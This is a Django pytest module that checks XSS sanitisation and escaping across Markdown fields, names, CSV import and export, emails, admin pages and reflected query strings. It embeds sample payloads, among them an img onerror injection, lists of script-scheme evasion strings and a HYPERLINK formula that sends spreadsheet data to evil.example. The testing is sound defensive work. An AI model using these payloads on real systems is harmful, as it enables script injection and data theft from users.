"""Every XSS payload in every user-writable field, checked wherever it is shown.

Markdown fields (submission text, review feedback): the stored HTML, parsed, has no tag outside
the allow-list, no on*/style/srcdoc attribute and no URL scheme but http, https and mailto.
Plain-text fields (display names, invitation names, team names in a CSV import): the payload
appears escaped, never raw. Whole pages, emails and admin changelists are compared with the
same page rendered from harmless data ("twins" of the same shape): whatever dangerous markup
the payloads added shows up as the difference, which must be empty.
"""

import csv
import io
import math
from urllib.parse import urlencode

import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from learners.models import Invitation, Membership, User
from ledger.models import Message
from progress.forms import SubmissionForm
from progress.models import Certificate, Review, Submission
from teams import services as team_services
from tests import factories
from tests.html_checks import dangerous_parts, url_scheme
from tests.security.helpers import (
    added_dangers,
    field_name,
    forget_messages,
    form_data,
    harmless_twin,
)
from tests.security.xss_corpus import PAYLOADS

pytestmark = pytest.mark.django_db

MANAGER_NAME = '"><img src=x onerror=alert(1)> Max'


def html_alternative(message) -> str:
    (html,) = [content for content, mimetype in message.alternatives if mimetype == "text/html"]
    return html


def test_the_corpus_is_big_enough_and_covers_every_family():
    assert len(PAYLOADS) >= 300
    text = "\n".join(PAYLOADS)
    for needle in (
        "JaVaScRiPt:",
        "&#x6A;avascript:",
        "java\tscript:",
        "java\nscript:",
        "data:text/html",
        "vbscript:",
        "[ref]: ",
        "<javascript:",
        "<svg",
        "<math",
        "onerror=",
        "<script",
        "=HYPERLINK",
    ):
        assert needle in text, needle


# -- Markdown fields -------------------------------------------------------------------------


@pytest.fixture
def practice():
    track = factories.make_track(slug="xss-track", modules=1, lessons_per_module=1)
    lesson = track.lessons.get()
    assignment = factories.add_rubric(factories.add_assignment(lesson))
    manager = factories.UserFactory(display_name="Max Manager")
    learners = [factories.UserFactory(display_name=f"Writer {n}") for n in range(20)]
    factories.team_with(manager=manager, learners=learners)
    return lesson, assignment, manager, learners


def _assignment_url(lesson) -> str:
    return reverse("progress:assignment", args=[lesson.track.slug, lesson.slug])


def test_previewed_markdown_adds_nothing_dangerous_to_the_page(client, practice):
    lesson, _, _, learners = practice
    client.force_login(learners[0])
    url = _assignment_url(lesson)
    baselines = {
        200: client.post(url, {"text": "b", "preview": "1"}).content.decode(),
        400: client.post(url, {"text": " ", "preview": "1"}).content.decode(),
    }
    problems = []
    for payload in PAYLOADS:
        response = client.post(url, {"text": payload, "preview": "1"})
        assert response.status_code in baselines, (payload, response.status_code)
        extra = added_dangers(response.content.decode(), baselines[response.status_code])
        if extra:
            problems.append((payload, extra))
    assert problems == []
    assert not Submission.objects.exists()


def test_submitted_and_reviewed_markdown_is_stored_and_shown_sanitised(client, practice):
    lesson, assignment, manager, learners = practice
    url = _assignment_url(lesson)
    criteria = list(assignment.rubric.all())
    learner_clients = {}
    for learner in learners:
        learner_clients[learner.pk] = Client()
        learner_clients[learner.pk].force_login(learner)
    manager_client = Client()
    manager_client.force_login(manager)
    stored_text = stored_feedback = 0
    for number, payload in enumerate(PAYLOADS):
        learner = learners[number % len(learners)]
        writer = learner_clients[learner.pk]
        data = {"text": payload, "link": "https://example.com/?q=" + payload, "submit": "1"}
        if "link" in SubmissionForm(data).errors:  # refused links are shown in the form only
            data["link"] = ""
        response = writer.post(url, data)
        forget_messages(writer)
        if response.status_code == 400:  # blank or NUL text: refused with a message
            assert 'class="field__error"' in response.content.decode()
            continue
        assert response.status_code == 302, payload
        submission = Submission.objects.filter(learner=learner).order_by("-version").first()
        assert submission.text_markdown == payload.strip()
        assert dangerous_parts(submission.text_html) == [], payload
        assert submission.link == "" or url_scheme(submission.link) in {"http", "https"}
        stored_text += 1
        review = {"outcome": "needs_revision", "feedback": payload}
        review.update({f"criterion_{c.pk}": 1 for c in criteria})
        response = manager_client.post(submission.get_absolute_url(), review)
        forget_messages(manager_client)
        if response.status_code == 400:
            review["feedback"] = "Please revise."
            response = manager_client.post(submission.get_absolute_url(), review)
        else:
            stored_feedback += 1
            assert dangerous_parts(Review.objects.get(submission=submission).feedback_html) == []
        assert response.status_code == 302, payload
    assert stored_text >= 300
    assert stored_feedback >= 300

    # Every version and review on the learners' and the manager's pages, against the same
    # pages with harmless text.
    def pages() -> dict[str, str]:
        rendered = {}
        for learner in learners:
            latest = Submission.objects.filter(learner=learner).order_by("-version").first()
            rendered[f"assignment/{learner.pk}"] = (
                learner_clients[learner.pk].get(url).content.decode()
            )
            rendered[f"submission/{learner.pk}"] = manager_client.get(
                latest.get_absolute_url()
            ).content.decode()
        rendered["reviews"] = manager_client.get(reverse("teams:team_reviews")).content.decode()
        return rendered

    with_payloads = pages()
    Submission.objects.update(text_markdown="b", text_html="<p>b</p>", link="https://example.com/")
    Review.objects.update(feedback_markdown="b", feedback_html="<p>b</p>")
    harmless = pages()
    problems = {
        name: added_dangers(page, harmless[name])
        for name, page in with_payloads.items()
        if added_dangers(page, harmless[name])
    }
    assert problems == {}


# -- plain-text fields: names ------------------------------------------------------------------


@pytest.fixture
def crowd():
    """One learner per payload in one team with a manager, a track assigned to the team, and
    one submission awaiting review each."""
    for slug in ("newcomer", "strategy-lead", "executive"):
        factories.role(slug)
    track = factories.make_track(slug="names-track", modules=1, lessons_per_module=1)
    assignment = factories.add_rubric(factories.add_assignment(track.lessons.get()))
    manager = factories.UserFactory(email="max@example.com", display_name=MANAGER_NAME)
    staff = factories.UserFactory(email="staff@example.com", is_staff=True, is_superuser=True)
    learners = User.objects.bulk_create(
        [
            User(email=f"learner{n}@example.com", display_name=f"Learner {n}", password="!")
            for n in range(len(PAYLOADS))
        ]
    )
    team = factories.team_with(manager=manager)
    Membership.objects.bulk_create(
        [Membership(user=learner, team=team, role="learner") for learner in learners]
    )
    team_services.assign_track(manager=manager, track=track, team=team)
    for learner in learners:
        Submission.objects.create(
            learner=learner, assignment=assignment, version=1, text_markdown="My work"
        )
    if connection.vendor == "postgresql":
        # Tell the planner these tables hold hundreds of rows: after an earlier test's flush it
        # believes they are empty, and the team dashboard's query then takes minutes, not ms.
        with connection.cursor() as cursor:
            cursor.execute("ANALYZE")
    return {
        "track": track,
        "team": team,
        "manager": manager,
        "staff": staff,
        "learners": learners,
    }


def _profile_post(client, template: dict, name: str):
    data = dict(template)
    data[field_name(template, "display_name")] = [name]
    return client.post(reverse("profile"), data)


def _list_pages(manager_client, staff_client, learners_count: int) -> dict[str, str]:
    """The pages that list many people's names, every page of them."""
    pages = {}
    per_page = 50
    for number in range(1, math.ceil(learners_count / per_page) + 2):
        pages[f"team?page={number}"] = manager_client.get(
            reverse("teams:team"), {"page": number}
        ).content.decode()
        pages[f"reviews?page={number}"] = manager_client.get(
            reverse("teams:team_reviews"), {"page": number}
        ).content.decode()
    pages["assignments"] = manager_client.get(reverse("teams:team_assignments")).content.decode()
    pages["invitations"] = manager_client.get(reverse("teams:team_invitations")).content.decode()
    for model, model_admin in admin.site._registry.items():
        opts = model._meta
        url = reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
        count = model._default_manager.count()
        for number in range(1, math.ceil(count / model_admin.list_per_page) + 1):
            response = staff_client.get(url, {"p": number})
            assert response.status_code == 200, url
            pages[f"{url}?p={number}"] = response.content.decode()
    return pages


def worker_sends_the_ledger() -> None:
    from ledger import messaging
    from ledger.models import Message

    queued = Message.objects.filter(status=Message.Status.PENDING).values_list("pk", flat=True)
    messaging.deliver_all(messaging.retake(list(queued)))


def test_names_are_escaped_everywhere_they_are_shown(client, crowd, mailoutbox):
    learners, manager, team = crowd["learners"], crowd["manager"], crowd["team"]
    # 1. Every payload as a display name, through the profile form (one person trying them
    # all), then each accepted name given to one learner of the crowd.
    writer = learners[0]
    client.force_login(writer)
    template = form_data(client.get(reverse("profile")).content.decode(), containing="display_name")
    refused, refusal_baseline, stored = 0, None, {}
    for learner, payload in zip(learners, PAYLOADS, strict=True):
        response = _profile_post(client, template, payload)
        forget_messages(client)
        if response.status_code == 302:
            stored[learner.pk] = User.objects.get(pk=writer.pk).display_name
            assert stored[learner.pk] == payload.strip()
            continue
        refused += 1  # too long, or a NUL: the form says why and shows what was typed
        assert response.status_code == 400, payload
        if refusal_baseline is None:
            refusal_baseline = _profile_post(client, template, harmless_twin(payload))
            assert refusal_baseline.status_code == 400
        page = response.content.decode()
        assert 'class="field__error"' in page
        assert added_dangers(page, refusal_baseline.content.decode()) == [], payload
    assert refused < len(PAYLOADS) / 2
    for learner in learners:
        learner.display_name = stored.get(learner.pk, learner.display_name)
    User.objects.bulk_update(learners, ["display_name"])
    names = {learner.pk: learner.name for learner in learners}
    for learner in learners:
        Certificate.objects.create(
            learner=learner,
            track=crowd["track"],
            learner_name=names[learner.pk],
            track_title=crowd["track"].title,
        )

    # 2. Every payload as an invitation name (pasted and uploaded) and as a team name.
    manager_client, staff_client = Client(), Client()
    manager_client.force_login(manager)
    staff_client.force_login(crowd["staff"])

    def invite(rows: list[list[str]], *, upload: bool):
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        data = {"team": team.pk}
        if upload:
            data["csv_file"] = SimpleUploadedFile(
                "people.csv", buffer.getvalue().encode(), "text/csv"
            )
        else:
            data["emails"] = buffer.getvalue()
        return manager_client.post(reverse("teams:team_invitations"), data)

    # Pasted and uploaded names are invited (and emailed); team names that match no team come
    # back as problems, each line quoted, compared with the same lines made harmless.
    batch = 200
    for start in range(0, len(PAYLOADS), batch):
        chunk = list(enumerate(PAYLOADS[start : start + batch], start=start))
        for upload in (False, True):
            tag = "u" if upload else "p"
            rows = [
                [f"x-{tag}{n}@example.com", p, team.name]
                for n, p in chunk
                if "\x00" not in p  # a NUL refuses the whole paste or file (tested apart)
            ]
            response = invite(rows, upload=upload)
            assert response.status_code in (302, 400)
            forget_messages(manager_client)
        response = invite([[f"x-t{n}@example.com", "", p] for n, p in chunk], upload=False)
        twin = invite(
            [[f"b-t{n}@example.com", "", harmless_twin(p)] for n, p in chunk], upload=False
        )
        assert response.status_code == twin.status_code == 400
        page = response.content.decode()
        if not any("\x00" in p for _, p in chunk):  # a NUL refuses the whole paste
            assert page.count("Unknown team") == sum(bool(p.strip()) for _, p in chunk)
        assert added_dangers(page, twin.content.decode()) == []
        forget_messages(manager_client)
    invited = Invitation.objects.filter(email__startswith="x-")
    assert invited.exclude(name="").count() >= 300

    # 3. Every name in an email: the manager's reminder to each learner, the invitations (which
    # the worker sends from the ledger once they commit: sent here as it would).
    for learner in learners:
        team_services.nudge_learner(manager=manager, learner=learner, track=crowd["track"])
    worker_sends_the_ledger()
    emails = list(mailoutbox)
    mailoutbox.clear()
    twin_learner = factories.UserFactory(email="twin@example.com", display_name="Twin")
    factories.team_with(manager=manager, learners=[twin_learner])
    team_services.nudge_learner(manager=manager, learner=twin_learner, track=crowd["track"])
    Invitation.objects.create(team=team, email="twin@example.com", name="Twin", invited_by=manager)
    team_services.send_invitation(Invitation.objects.get(email="twin@example.com"))
    worker_sends_the_ledger()
    baselines = {
        "nudge": html_alternative(mailoutbox[0]),
        "invitation": html_alternative(mailoutbox[1]),
    }
    for message in emails:
        kind = "invitation" if "invited" in message.subject else "nudge"
        html = html_alternative(message)
        assert added_dangers(html, baselines[kind]) == [], message.to
    assert len(emails) == len(learners) + Invitation.objects.filter(email__startswith="x-").count()

    # 4. Pages that show one person: the public certificate, the submission the manager reviews.
    certificate_baseline = submission_baseline = None
    client = Client()  # anonymous: the certificate page is public
    forget_messages(manager_client)
    for learner in learners:
        name = names[learner.pk]
        certificate = Certificate.objects.get(learner=learner)
        submission = Submission.objects.get(learner=learner)
        certificate_page = client.get(certificate.get_absolute_url()).content.decode()
        submission_page = manager_client.get(submission.get_absolute_url()).content.decode()
        if certificate_baseline is None:
            twin = harmless_twin(name)
            User.objects.filter(pk=learner.pk).update(display_name=twin)
            Certificate.objects.filter(pk=certificate.pk).update(learner_name=twin)
            certificate_baseline = client.get(certificate.get_absolute_url()).content.decode()
            submission_baseline = manager_client.get(submission.get_absolute_url()).content.decode()
            User.objects.filter(pk=learner.pk).update(display_name=name)
            Certificate.objects.filter(pk=certificate.pk).update(learner_name=name)
        for page, baseline in (
            (certificate_page, certificate_baseline),
            (submission_page, submission_baseline),
        ):
            assert escape(name) in page, name
            if escape(name) != name:
                assert name not in page, name
            assert added_dangers(page, baseline) == [], name

    # 5. Pages that list everyone (team dashboard, reviews, assignments, invitations, every
    # admin changelist), then the same pages with every name swapped for its harmless twin.
    # The ledger's changelist shows addresses and subjects, not names (the bodies were checked
    # in step 3); without its ~1,500 rows the pages below render in a third of the time.
    Message.objects.all().delete()
    with_payloads = _list_pages(manager_client, staff_client, len(learners))
    people = list(User.objects.filter(pk__in=names))
    for person in people:
        person.display_name = harmless_twin(names[person.pk])
    User.objects.bulk_update(people, ["display_name"])
    certificates = list(Certificate.objects.filter(learner__in=people))
    for certificate in certificates:
        certificate.learner_name = harmless_twin(names[certificate.learner_id])
    Certificate.objects.bulk_update(certificates, ["learner_name"])
    invitations = list(Invitation.objects.exclude(name=""))
    for invitation in invitations:
        invitation.name = harmless_twin(invitation.name)
    Invitation.objects.bulk_update(invitations, ["name"])
    harmless = _list_pages(manager_client, staff_client, len(learners))
    assert with_payloads.keys() == harmless.keys()
    problems = {
        name: added_dangers(page, harmless[name])
        for name, page in with_payloads.items()
        if added_dangers(page, harmless[name])
    }
    assert problems == {}


def test_team_csv_defuses_formulas_and_keeps_names_as_text(client, crowd):
    learners, manager = crowd["learners"], crowd["manager"]
    for learner, payload in zip(learners, PAYLOADS, strict=True):
        learner.display_name = payload.strip()[:80].replace("\x00", "")
    User.objects.bulk_update(learners, ["display_name"])
    client.force_login(manager)
    response = client.get(reverse("teams:team_export"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == len(learners)
    expected = {learner.email: learner.name for learner in learners}
    for row in rows:
        name = expected[row["email"]]
        if name.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert row["name"] == "'" + name
        else:
            assert row["name"] == name
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert {'\'=HYPERLINK("https://evil.example/?"&A1,"click")', "'+1+1"} <= {
        row["name"] for row in rows
    }


def test_reflected_query_strings_are_escaped(client, practice):
    """The dashboard echoes its filters into links and forms: escaped, whatever they hold."""
    _, _, manager, _ = practice
    client.force_login(manager)
    for payload in PAYLOADS[::14]:
        query = urlencode({"sort": payload, "status": payload, "page": payload, "team": payload})
        response = client.get(f"{reverse('teams:team')}?{query}")
        assert response.status_code == 200
        baseline = client.get(
            f"{reverse('teams:team')}?"
            + urlencode({k: harmless_twin(payload) for k in ("sort", "status", "page", "team")})
        )
        assert added_dangers(response.content.decode(), baseline.content.decode()) == [], payload
